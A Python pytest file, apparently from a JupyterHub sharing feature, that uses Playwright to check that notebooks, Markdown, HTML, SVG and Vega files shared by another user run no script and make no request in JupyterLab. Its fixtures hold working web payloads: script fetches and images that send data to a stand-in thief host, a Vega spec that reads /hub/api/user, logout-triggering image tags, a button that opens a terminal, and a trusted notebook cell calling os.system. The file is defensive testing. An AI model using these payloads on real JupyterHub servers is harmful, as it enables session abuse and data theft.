"""What files of another person's do in the reader's own JupyterLab: nothing.

They lie where a share brings them, as files of which nothing is trusted.
"""

import json
from collections.abc import Generator
from http import HTTPStatus
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Response, expect

from tests.support import attack
from tests.support.lab import Lab
from tests.support.running_service import RunningService
from tests.support.viewer_site import Site, viewer_site
from tests.support.waiting import until

PLACE = "Shared/ann/Week 1"
VEGA = "application/vnd.vega.v5+json"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
    "kgAAAABJRU5ErkJggg=="
)
BUTTON = "<button data-commandlinker-command='terminal:create-new'>Plot</button>"
SHOWN = 40
"""How many outputs a cell has: JupyterLab shows the first 50 alone."""
PARTS = (".jp-MarkdownCell", ".jp-OutputArea-output")
LAST = "The last line of another person's file."


@pytest.fixture(scope="module")
def site() -> Generator[Site]:
    with viewer_site() as it:
        yield it


@pytest.fixture(scope="module")
def shared(service: RunningService, site: Site) -> Path:
    """Files of another person's, below the home, and the same as files of one's own."""
    texts = [text for _, text in attack.snippets(site.thief)]
    snippets = "\n\n".join([*texts, *more(site.thief), f"\n\n{LAST}\n"])
    files = {
        "all.md": snippets.encode(),
        "all.ipynb": notebook([*texts, *more(site.thief)], site.thief),
        "all.html": f"<p>{LAST}</p>{snippets}".encode(),
        "all.svg": attack.SVG.format(thief=site.thief).encode(),
        "script.html": f"<script>fetch('{site.thief}/fetch?')</script>".encode(),
        "all.vg": json.dumps(vega(site.thief)).encode(),
    }
    for place in (PLACE, "own"):
        folder = service.root / place
        folder.mkdir(parents=True)
        for name, data in files.items():
            (folder / name).write_bytes(data)
    return service.root / PLACE


def more(thief: str) -> list[str]:
    """Give what attacks JupyterLab alone."""
    return [
        "<img src='/hub/logout'> <img src='../../../../../hub/logout'>",
        "![x](/hub/logout) ![y](../../../../../hub/logout)",
        BUTTON,
        f"```mermaid\nflowchart TD\n A@{{ img: '{thief}/mermaid', w: 9, h: 9 }}\n```",
        f"```mermaid\nflowchart LR\n A[\"<img src='{thief}/mermaid-html'>\"]\n```",
        f"$\\unicode{{<img src={thief}/tex>}}$ $\\class{{x}}{{y}}$ $\\require{{x}}$",
    ]


def vega(thief: str) -> dict[str, object]:
    """Give a diagram that reads from the hub, and sends what it read."""
    return {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 9,
        "height": 9,
        "data": [
            {"name": "a", "url": f"{thief}/vega-data"},
            {"name": "b", "url": "/hub/api/user"},
        ],
        "marks": [
            {
                "type": "image",
                "encode": {"enter": {"url": {"value": f"{thief}/vega-image"}}},
            }
        ],
    }


def notebook(texts: list[str], thief: str) -> bytes:
    """Give a notebook of all attacks, in the form that is valid."""
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {kind: text}}
        for text in texts
        for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml")
    ]
    outputs += [
        {"output_type": "display_data", "metadata": {}, "data": data}
        for data in (
            {"application/javascript": f"fetch('{thief}/javascript')"},
            {VEGA: vega(thief), "text/plain": "a diagram"},
            {attack.SPARK: attack.panel(f"<img src='{thief}/spark'>")},
            {attack.SPARK: attack.panel("<script>fetch('/hub/api/user')</script>")},
            {"image/png": PNG},
        )
    ]
    outputs.append({"output_type": "stream", "name": "stdout", "text": f"{LAST}\n"})
    markdown = [
        {"cell_type": "markdown", "id": f"m{i}", "metadata": {}, "source": text}
        for i, text in enumerate(texts)
    ]
    code = [
        {
            "cell_type": "code",
            "id": f"code{start}",
            "metadata": {"trusted": True},
            "execution_count": 1,
            "source": "import os; os.system('touch ran')",
            "outputs": outputs[start : start + SHOWN],
        }
        for start in range(0, len(outputs), SHOWN)
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    whole = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": kernel, "trusted": True},
        "cells": [*markdown, *code],
    }
    return json.dumps(whole).encode()


def asked(lab: Lab, site: Site) -> list[str]:
    """Note what the thief, or the hub, answers to a page that is logged in."""
    found: list[str] = []
    # The login of the server itself asks the hub, once.
    lab.page.goto(f"{lab.home}lab?reset")

    def note(response: Response) -> None:
        path = urlsplit(response.url).path
        if response.url.startswith(site.thief) or path.startswith("/hub/"):
            found.append(response.url)

    site.forget()
    lab.page.on("response", note)
    return found


def show_notebook(lab: Lab, folder: str) -> None:
    """Open the notebook, and look at all of it."""
    lab.open(quote(f"{folder}/all.ipynb"))
    lab.show_end()
    expect(lab.page.locator(".jp-OutputArea-output").first).to_be_attached()


def press(lab: Lab, part: str) -> None:
    """Press the button in a part of the notebook in front."""
    notebook = lab.page.locator(".jp-NotebookPanel:not(.lm-mod-hidden)")
    notebook.locator(part).get_by_role("button", name="Plot").first.click()


def show_preview(lab: Lab) -> None:
    """Open the Markdown file as a page."""
    item = lab.page.get_by_role("listitem", name="Name: all.md")
    item.dblclick()
    lab.page.locator(".jp-FileEditor .cm-content").click(button="right")
    lab.page.get_by_text("Show Markdown Preview").click()
    # What the texts leave open swallows the last line.
    shown = lab.page.locator(".jp-MarkdownViewer .jp-RenderedMarkdown > *")
    expect(shown.first).to_be_attached()


def show_file(lab: Lab, name: str, shown: str) -> None:
    """Open another file from the file browser."""
    lab.page.get_by_role("listitem", name=f"Name: {name}").dblclick()
    expect(lab.page.locator(shown).first).to_be_attached()


def test_files_of_another_person_ask_for_nothing_in_jupyterlab(
    lab: Lab, shared: Path, site: Site
) -> None:
    found = asked(lab, site)

    show_notebook(lab, PLACE)
    for part in PARTS:
        press(lab, part)
    show_preview(lab)
    show_file(lab, "all.svg", ".jp-ImageViewer img")
    show_file(lab, "all.vg", ".jp-MimeDocument :text('is not drawn')")
    show_file(lab, "all.html", ".jp-FileEditor :text('fetch(')")
    # The page always waits for news of shares, so its network is never idle.
    lab.page.wait_for_function("[...document.images].every(it => it.complete)")
    lab.keep("shared-attack")

    assert (found, site.stolen) == ([], [])
    assert not (shared / "ran").exists()
    expect(lab.page.locator(".jp-Dialog, .jp-Terminal")).to_have_count(0)
    assert len(lab.page.context.pages) == 1


def test_file_of_another_person_runs_nothing_in_a_tab_of_its_own(
    lab: Lab, shared: Path, site: Site
) -> None:
    found = asked(lab, site)

    for name in ("all.html", "all.svg", "script.html"):
        shown = lab.page.goto(f"{lab.home}files/{quote(f'{PLACE}/{name}')}")
        assert shown is not None
        assert shown.status == HTTPStatus.OK
        lab.page.wait_for_load_state("networkidle")
        assert lab.page.url.startswith(lab.home)

    assert shared.exists()
    assert (found, site.stolen) == ([], [])


def test_attacks_succeed_on_files_of_one_s_own(
    lab: Lab, shared: Path, site: Site
) -> None:
    # Without this, the tests above could be of attacks that never work.
    found = asked(lab, site)

    show_notebook(lab, "own")
    for part in PARTS:
        press(lab, part)
        # JupyterLab asks first, in words that the file may choose.
        dialog = lab.page.get_by_role("dialog")
        expect(dialog).to_be_visible()
        lab.page.keyboard.press("Escape")
        expect(dialog).to_have_count(0)
    show_preview(lab)
    show_file(lab, "all.vg", ".jp-MimeDocument canvas, .jp-MimeDocument svg")
    show_file(lab, "all.html", ".jp-HTMLViewer iframe")
    until(lambda: {"/frame", "/vega-image"} <= {*site.stolen}, "all is stolen")
    site.forget()
    lab.page.goto(f"{lab.home}files/own/script.html")
    until(lambda: "/fetch?" in site.stolen, "a script has run")

    assert shared.exists()
    paths = {urlsplit(it).path for it in found}
    assert {"/hub/logout", "/hub/api/user", "/mermaid", "/markdown"} <= paths
